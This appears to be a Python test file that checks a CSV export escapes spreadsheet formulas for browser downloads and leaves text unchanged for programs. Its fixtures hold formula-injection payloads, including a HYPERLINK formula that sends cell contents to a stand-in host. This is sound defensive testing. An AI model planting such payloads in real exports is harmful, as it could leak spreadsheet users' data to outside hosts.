"""Files that the server hands out."""

import csv
import io

import pyarrow as pa
import pytest

from iomine.views.encode import write_csv
from iomine.web.app import _FILES

FORMULAS = ('=HYPERLINK("http://host.test/?"&A1)', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1")
PLAIN = ("/scratch/a=b", "'quoted", "ada", "")
ANSWER = pa.table({"path": [*FORMULAS, *PLAIN], "moved_bytes": range(-3, len(FORMULAS + PLAIN) - 3)})


def _written(write) -> list[dict[str, str]]:
    file = io.BytesIO()
    write(ANSWER, file)
    return list(csv.DictReader(io.StringIO(file.getvalue().decode(), newline="")))


def test_programs_get_texts_as_they_are():
    """CSV for programs has every text as it is."""
    assert [*FORMULAS, *PLAIN] == [row["path"] for row in _written(write_csv)]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_download_of_a_browser_holds_a_formula(text: str):
    """What a spreadsheet would work out begins with an apostrophe; other texts, and numbers below zero, are as they are."""
    rows = _written(_FILES["csv"][1])
    assert f"'{text}" in [row["path"] for row in rows]
    assert list(PLAIN) == [row["path"] for row in rows[len(FORMULAS) :]]
    assert [str(number) for number in ANSWER["moved_bytes"].to_pylist()] == [row["moved_bytes"] for row in rows]
